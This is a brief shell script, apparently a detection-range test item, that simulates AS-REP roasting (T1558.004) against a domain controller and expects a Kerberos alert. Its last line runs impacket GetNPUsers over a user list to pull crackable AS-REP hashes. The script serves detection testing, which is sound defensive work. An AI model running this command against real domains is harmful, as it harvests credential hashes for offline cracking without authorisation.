# SPDX-License-Identifier: Apache-2.0
# what: AS-REP of an account that needs no preauthentication
# technique: T1558.004
# from: ws1
# to: dc1
# account: erin
# outcome: success
# must: alert krb
. "$RANGE_HERE/item.sh"
printf '%s\n' alice bob erin carol dave frank >"$HOME/users"
says 'krb5asrep' impacket GetNPUsers "$DOMAIN_DNS/" -usersfile "$HOME/users" -no-pass -dc-ip $dc1
